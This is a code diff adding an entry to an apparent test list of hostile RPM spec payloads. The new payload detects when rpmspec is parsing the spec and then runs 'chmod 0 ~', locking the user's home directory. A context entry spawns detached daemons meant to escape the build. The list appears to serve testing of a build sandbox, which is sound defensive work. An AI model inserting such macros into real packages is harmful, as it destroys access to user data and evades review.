@@ -145,6 +145,14 @@ const ATTACKS: &[Attack] = &[
         class: "package",
     },
     Attack {
+        name: "no-way-home",
+        // When the spec is read, by a program whose end nobody looks at.
+        lines: "%(tr '\\0' ' ' < /proc/$PPID/cmdline | grep -q ^rpmspec && chmod 0 ~; echo true)",
+        options: &[],
+        end: Some((10, "the build has changed or removed what that needs")),
+        class: "package",
+    },
+    Attack {
         name: "daemons",
         lines: "for i in 1 2 3; do setsid sh -c 'setsid sleep %{marker} & sleep %{marker}' < /dev/null > /dev/null 2>&1 & done",
         options: &[],
